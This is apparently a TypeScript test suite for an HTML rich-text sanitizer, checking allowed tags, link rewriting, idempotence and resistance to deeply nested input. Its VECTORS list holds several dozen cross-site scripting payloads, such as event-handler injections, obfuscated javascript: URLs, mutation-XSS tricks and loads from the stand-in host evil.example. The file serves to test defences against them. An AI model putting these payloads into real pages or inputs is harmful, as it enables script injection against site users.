import assert from 'node:assert/strict';
import { test } from 'node:test';
import { unheld, workOf } from '#server/testing/unheld.ts';
import { isRichTextEmpty, plainTextOf, sanitizeRichText } from './richText.ts';

const IMAGE = '/content/img/0123456789abcdef0123456789abcdef';

/** Ways to get script into a page that were found in the wild. None may leave anything that could run. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" / >',
  '<img/src=x/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  `<img src="${IMAGE}" onload="alert(1)" style="background:url(javascript:alert(1))">`,
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="//evil.example/x 1x" src="//evil.example/y">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https://x" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '<base href="https://evil.example/">',
  '<style>@import "//evil.example";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div id="x" class="y" data-x="z" slot="a">x</div>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  `<a href="https://x" title='"><script>alert(1)</script>'>x</a>`,
  '<custom-element onclick=alert(1)>x</custom-element>',
];

const TAG = /<\/?([a-z0-9]+)((?:\s+[a-z]+="[^"<>]*")*)\s*\/?>/g;
const ALLOWED = new Set('p br hr h2 h3 h4 blockquote pre code ul ol li strong em u s a img'.split(' '));

/** Strict: outside known elements with known attributes there must be no `<`. */
function assertHarmless(clean: string, from: string): void {
  for (const [, name = '', attributes = ''] of clean.matchAll(TAG)) {
    assert.ok(ALLOWED.has(name), `${name} in ${clean}, from ${from}`);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([a-z]+)="([^"]*)"/g)) {
      assert.ok(['href', 'target', 'rel', 'src', 'alt', 'width', 'height', 'start'].includes(attribute), clean);
      if (attribute === 'href') assert.match(value, /^(https?:\/\/|\/(?![/\\]))/, from);
      if (attribute === 'src') assert.match(value, /^\/content\/img\//, from);
    }
  }
  assert.doesNotMatch(clean.replace(TAG, ''), /</, `markup is left in ${clean}, from ${from}`);
}

test('nothing that could run is left of what is known to have run elsewhere', () => {
  for (const vector of VECTORS) {
    for (const html of [vector, `<p>a ${vector} b</p>`, `${vector}${vector}`, `<ul><li>${vector}`]) {
      const clean = sanitizeRichText(html);
      assertHarmless(clean, html);
      assert.equal(sanitizeRichText(clean), clean, `cleaning again changes ${clean}`);
    }
  }
});

test('what an editor makes stays as it is', () => {
  const html = `<h2>Title</h2><p>One <strong>two</strong> <em>three</em> <u>four</u> <s>five</s><br />six &amp; seven</p><ul><li><p>a</p></li></ul><ol start="3"><li><p>b</p></li></ol><blockquote><p>c</p></blockquote><pre><code>d &lt; e</code></pre><hr /><p><a href="/sys/role?x=1">here</a></p><img src="${IMAGE}" alt="p" width="300" />`;
  assert.equal(sanitizeRichText(html), html);
});

test('links that lead away say nothing of us; those that stay are left alone', () => {
  assert.equal(
    sanitizeRichText('<a href="https://example.com/?a=1&b=2" target="evil" rel="opener">x</a>'),
    '<a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
  );
  assert.equal(sanitizeRichText('<a href="/docs">x</a>'), '<a href="/docs">x</a>');
});

test('plain text has words, no markup, and spaces where lines end', () => {
  assert.equal(plainTextOf('<h2>A</h2><p>b<strong>c</strong></p><ul><li>d</li></ul>'), 'A bc d');
  assert.equal(plainTextOf('<p>1 &lt; 2 &amp;amp; 3</p><script>x</script>'), '1 < 2 &amp; 3');
  assert.ok(isRichTextEmpty('<p> &nbsp;</p><br>'));
  assert.ok(!isRichTextEmpty(`<p><img src="${IMAGE}"></p>`));
});

test('a text nested without end is cut, in a time that does not explode', () => {
  const ms = workOf(() => {
    assertHarmless(sanitizeRichText('<blockquote>'.repeat(20_000) + 'x'), 'nested');
    assertHarmless(sanitizeRichText('<a href="'.repeat(10_000)), 'open');
  });
  assert.ok(ms < 2000, `${ms} ms`);
});

test('elements that are opened without end cost no time', () => {
  const html = `${'<b>'.repeat(33_000)}x`;
  const ms = workOf(() => {
    assert.equal(sanitizeRichText(html).trim(), 'x');
    assert.equal(plainTextOf(html), 'x');
  });
  assert.ok(ms < 150, `${ms} ms`);
  const long = '<p>a<br>b<img src="x"></p>'.repeat(1500);
  assert.equal(sanitizeRichText(long).includes('<p>'), true);
});

test('signs that open nothing are text, and any number of them is read in no time', async () => {
  assert.equal(sanitizeRichText('<p>1 < 2 <3</p>'), '<p>1 &lt; 2 &lt;3</p>');
  assert.equal(plainTextOf('<p>1 < 2 <3</p>'), '1 < 2 <3');
  const many = '<'.repeat(200_000);
  await unheld(() => Promise.resolve([sanitizeRichText(many), plainTextOf(many)]));
});
